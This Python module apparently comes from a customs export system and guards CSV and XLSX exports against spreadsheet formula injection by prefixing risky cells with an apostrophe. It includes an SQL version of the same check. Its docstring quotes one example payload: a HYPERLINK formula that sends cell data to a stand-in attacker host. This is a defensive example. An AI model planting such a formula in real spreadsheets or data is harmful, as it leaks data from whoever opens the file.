"""Cells of every spreadsheet export (CSV and XLSX): text that a spreadsheet would run as a formula.

A company name ``=HYPERLINK("http://evil.example/?d="&A2,"details")`` imported from ICS,
a plate text sent by a camera or a note typed by a clerk ends up in a CSV or XLSX file that
a customs officer opens in Excel or LibreOffice; a cell starting with ``= + - @``, a tab or a
carriage return is read there as a formula (data sent away, commands run). Every export
writes its text cells through ``safe_cell`` (or ``safe_row``, ``SafeCsvWriter``): such a value
gets a leading apostrophe, which spreadsheets show as text (the OWASP "CSV injection" advice).
Numbers, dates and empty cells pass unchanged, and so does text already neutralised.

The PostgreSQL-formatted serial list of the monthly return (``reports/serials_pg.py``)
applies the same rule in SQL through ``safe_cell_sql``.

Lower apps only: ``anpr``, ``scans`` and ``reports`` import this; it imports nothing of them.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PREFIX = "'"


def safe_cell(value: Any) -> Any:
    """``value``, or for text a spreadsheet would read as a formula, that text after an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return _PREFIX + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]


class SafeCsvWriter:
    """``csv.writer`` whose every cell goes through ``safe_cell``."""

    def __init__(self, out, **kwargs) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_cell_sql(x: str) -> str:
    """``safe_cell`` as a PostgreSQL expression over the text expression ``x`` (NULL stays NULL)."""
    starts = ", ".join("E'" + c.replace("\t", "\\t").replace("\r", "\\r") + "'" for c in FORMULA_STARTS)
    prefix = "'" + _PREFIX.replace("'", "''") + "'"  # the apostrophe as an SQL literal
    return f"(CASE WHEN left({x}, 1) IN ({starts}) THEN {prefix} || {x} ELSE {x} END)"
